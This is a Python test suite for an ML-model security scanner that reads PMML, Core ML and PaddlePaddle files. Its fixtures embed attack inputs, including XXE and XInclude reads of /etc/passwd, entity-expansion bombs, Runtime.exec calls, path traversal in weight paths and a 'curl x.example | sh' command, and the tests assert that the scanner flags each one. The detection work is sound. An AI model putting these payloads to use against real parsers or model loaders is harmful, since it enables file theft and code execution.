"""PMML, Core ML and PaddlePaddle."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mlsecops.models.readers.core_ml import CoreMlReader
from mlsecops.models.readers.documents import PmmlReader
from mlsecops.models.readers.paddle import PaddleJsonReader, PaddleParametersReader, PaddleProgramReader
from support.parts import read_with, reasons, rules
from support.protobuf import field

READERS = (PmmlReader(), CoreMlReader(), PaddleProgramReader(), PaddleJsonReader(), PaddleParametersReader())


def pmml(body: str = "", before: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">'
        f'<Header><Application name="JPMML"/></Header>{body}</PMML>'
    ).encode()


APPLY = '<Apply function="{}"><FieldRef field="x"/></Apply>'


@pytest.mark.parametrize(
    "data",
    [
        pmml(APPLY.format("+") + '<Extension name="a" value="b">text</Extension>'),
        pmml().decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        pmml(before='<!DOCTYPE PMML SYSTEM "http://www.dmg.org/v2-1/pmml_v2_1.dtd">'),
        pmml(before='<!DOCTYPE PMML SYSTEM "pmml.dtd"><?other x?>'),
        pmml().replace(b"<PMML", b"<p:PMML xmlns:p='x'").replace(b"</PMML", b"</p:PMML"),
    ],
)
def test_pmml_as_libraries_write_it_is_no_fact(tmp_path: Path, data: bytes) -> None:
    found = read_with(tmp_path, data, *READERS)
    assert (found.formats, found.facts, found.unread) == (["PMML"], {}, [])


@pytest.mark.parametrize(
    ("data", "severity"),
    [
        (pmml(before='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), None),
        (pmml("&b;", '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>'), None),
        (pmml(before='<!DOCTYPE x SYSTEM "http://x.example/x.dtd">'), None),
        (pmml('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'), None),
        (pmml(before='<?xml-stylesheet href="http://x.example/x.xsl"?>'), None),
        (pmml(APPLY.format("com.example.Mine")), None),
        (pmml(APPLY.format("java.lang.Runtime.exec")), 9.0),
        (pmml("<Extension><x>new ProcessBuilder(1)</x></Extension>"), 7.5),
    ],
)
def test_pmml_that_asks_for_more(tmp_path: Path, data: bytes, severity: float | None) -> None:
    found = read_with(tmp_path, data, *READERS)
    assert [fact.severity for fact in found.facts.values()] == [severity]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (pmml()[:-4], "XML"),
        (pmml("<a>" * 1001), "XML"),
        (pmml("<!--" + "x" * (7 << 20) + "-->"), "longer than any"),
        (pmml().replace(b"UTF-8", b"no-such"), "XML"),
        (b"<html>PMML</html>", "nobody"),
        (b"PMML", "nobody"),
    ],
)
def test_pmml_that_cannot_be_read_says_so(tmp_path: Path, data: bytes, reason: str) -> None:
    assert reason in reasons(read_with(tmp_path, data, *READERS))[0]


def core_ml(kind: int, body: bytes, note: str = "x") -> bytes:
    metadata = field(100, field(1, note) + field(3, "me") + field(100, field(1, "k") + field(2, "v")))
    return field(1, 4) + field(2, field(1, b"") + metadata) + field(kind, body)


def layer(*parts: bytes) -> bytes:
    return field(1, field(1, "name") + b"".join(parts))


def program(operation: bytes) -> bytes:
    block = field(1, "b") + field(2, field(3, operation))
    return field(1, 1) + field(2, field(1, "main") + field(2, field(3, block)))


def test_core_ml_as_libraries_write_it_is_no_fact(tmp_path: Path) -> None:
    weights = field(5, field(2, field(5, field(1, "@model_path/weights/weight.bin"))))
    for data in (core_ml(500, layer(field(140, b"\1"))), core_ml(502, program(field(1, "conv") + weights))):
        found = read_with(tmp_path, data, *READERS)
        assert (found.formats, found.facts, found.unread) == (["Core ML"], {}, [])
        assert found.details == {"author": "me"}


CUSTOM = "core-ml-custom-code"
INNER = core_ml(500, layer(field(500, field(10, "Mine"))))


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (INNER, CUSTOM),
        (core_ml(555, field(10, "Mine")), CUSTOM),
        (core_ml(202, field(1, INNER)), CUSTOM),
        (core_ml(200, field(1, field(1, INNER))), CUSTOM),
        (core_ml(500, layer(field(600, field(1, layer(field(500, field(10, "Mine"))))))), CUSTOM),
        (core_ml(502, program(field(1, "custom_thing"))), CUSTOM),
        (
            core_ml(502, program(field(1, "c") + field(5, field(2, field(5, field(1, "/etc/passwd")))))),
            "onnx-external-data-escapes",
        ),
        (core_ml(556, field(1, field(1, field(1, "../x")))), "onnx-external-data-escapes"),
        (core_ml(500, b"", "curl x.example | sh"), "embedded-command"),
    ],
)
def test_core_ml_that_asks_for_more(tmp_path: Path, data: bytes, rule: str) -> None:
    assert rules(read_with(tmp_path, data, *READERS)) == [rule]


def test_core_ml_has_bounds(tmp_path: Path) -> None:
    data = INNER
    for _ in range(60):
        data = core_ml(202, field(1, data))
    assert "nested" in reasons(read_with(tmp_path, data, *READERS))[0]
    assert (
        "cut off"
        in reasons(
            read_with(tmp_path, core_ml(500, layer(field(1, b"xx"))) + field(10, b"xxxx")[:-1], *READERS)
        )[0]
    )
    for other in (field(1, 99) + field(500, b""), field(1, 4) + field(77, b""), b"\x08", field(2, b"")):
        assert reasons(read_with(tmp_path, other, *READERS)) == ["nobody knows it"]


def operator(kind: str, *texts: str) -> bytes:
    attributes = b"".join(field(4, field(1, "a") + field(2, 2) + field(5, text)) for text in texts)
    return field(4, field(3, kind) + attributes)


def paddle(*operators: bytes) -> bytes:
    variables = field(3, field(1, "x"))
    return field(1, field(1, 0) + field(2, 0) + variables + b"".join(operators)) + field(4, field(1, 0))


def test_paddle_as_it_is_written_is_no_fact(tmp_path: Path) -> None:
    harmless = paddle(
        operator("feed"), operator("conv2d", "NCHW"), operator("save", "out"), operator("print", "/")
    )
    found = read_with(tmp_path, harmless, *READERS)
    assert (found.formats, found.facts, found.unread) == (["PaddlePaddle program"], {}, [])
    text = b'{"base_code": {"magic": "pir", "version": 1}, "program": {"ops": [{"#": "1.relu", "p": "a.b"}]}}'
    found = read_with(tmp_path, text, *READERS)
    assert (found.facts, found.unread) == ({}, [])


@pytest.mark.parametrize(
    "data",
    [
        paddle(operator("py_func")),
        paddle(operator("load_combine", "/etc/passwd")),
        paddle(operator("recv")),
        b'{"base_code": {"magic": "pir"}, "program": [{"#": "1.py_func_"}]}',
    ],
)
def test_paddle_that_runs_code(tmp_path: Path, data: bytes) -> None:
    assert rules(read_with(tmp_path, data, *READERS)) == ["paddle-code"]


def parameters(kind: int = 5, lods: int = 0, version: int = 0) -> bytes:
    description = field(1, kind) + field(2, 2) + field(2, 3)
    lod = struct.pack("<Q", lods) + b"".join(struct.pack("<Q", 8) + bytes(8) for _ in range(min(lods, 3)))
    return (
        struct.pack("<I", 0) + lod + struct.pack("<Ii", version, len(description)) + description + bytes(24)
    )


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (parameters() + parameters(lods=2), ""),
        (parameters()[:-1], "cut off"),
        (parameters(19), "type that is not known"),
        (parameters() + parameters(version=1), "version"),
        (parameters() + b"\1" + bytes(40), "version"),
        (parameters() + parameters(lods=1 << 40), "described by more"),
        (b"\n\0", "nobody"),
        (b"\n\4\n\2xx", "nobody"),
        (field(1, 5) + b"", "nobody"),
    ],
)
def test_paddle_parameters(tmp_path: Path, data: bytes, reason: str) -> None:
    found = read_with(tmp_path, data, *READERS)
    assert reason in " ".join(reasons(found))
    assert bool(reason) == bool(found.unread)
    assert not found.facts


WHOLE = (INNER, paddle(operator("py_func", "/x")), parameters(), pmml(APPLY.format("a.b")))


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(WHOLE), st.integers(0, 60), st.binary(max_size=9))
def test_any_bytes_are_read_or_not(
    tmp_path_factory: pytest.TempPathFactory, whole: bytes, at: int, junk: bytes
) -> None:
    found = read_with(tmp_path_factory.getbasetemp(), whole[:at] + junk + whole[at + len(junk) :], *READERS)
    assert not any("itself failed" in reason for reason in reasons(found))
